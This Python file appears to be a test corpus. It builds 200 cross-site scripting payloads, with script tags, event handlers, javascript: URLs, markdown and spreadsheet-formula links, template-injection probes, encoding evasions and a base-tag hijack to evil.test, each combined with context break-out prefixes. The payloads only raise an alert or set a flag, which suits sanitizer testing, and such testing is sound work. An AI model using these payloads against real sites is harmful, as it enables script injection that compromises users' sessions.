"""Two hundred ways to make a page run what somebody typed. Each that works opens a dialog, or sets `window.ran`."""

from base64 import b64encode
from itertools import product

RUN = "self.ran=1;alert(1)"
_BASE64 = b64encode(f"<script>parent.ran=1;{RUN}</script>".encode()).decode()
VECTORS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    "<iframe srcdoc='<script>parent.ran=1;parent.alert(1)</script>'>",
    f"<iframe src=data:text/html;base64,{_BASE64}>",
    f'<iframe src="javascript:parent.ran=1;{RUN}">',
    f'<object data="javascript:{RUN}">',
    f"<video><source onerror={RUN}>",
    f"<style onload={RUN}></style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.test/><script src=x></script>",
    f"<form><button formaction=javascript:{RUN}>x",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt&colon;{RUN})",
    f"![x](x)<img src=x onerror={RUN}>",
    f"<javascript:{RUN}>",
    f"[x]: javascript:{RUN}\n\n[x]",
    f"[x](data:text/html;base64,{_BASE64})",
    f"```html\n<script>{RUN}</script>\n```",
    f'=HYPERLINK("javascript:{RUN}";"x")',
    "{{ ''.__class__.__mro__ }}{% for x in [1] %}{% endfor %}${7*7}#{7*7}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"\u202e>tpircs/<{RUN}>tpircs<\u202c<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u200bipt>{RUN}</scr\u200bipt><scr<script>ipt>{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E\\x3cscript\\x3e\\u003cscript\\u003e",
    f"<script\n>{RUN}</script\t>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template><img/src='x'/onerror={RUN}>",
    f"javascript:{RUN}//",
]
# Out of where it may stand: nothing, an attribute, a text field or a title, a script of JSON, a comment.
OUT_OF = ["", "\"'>", "</textarea></title></style>", "</script>\"};'", "-->]]>"]
PAYLOADS = [out + vector for vector, out in product(VECTORS, OUT_OF)]
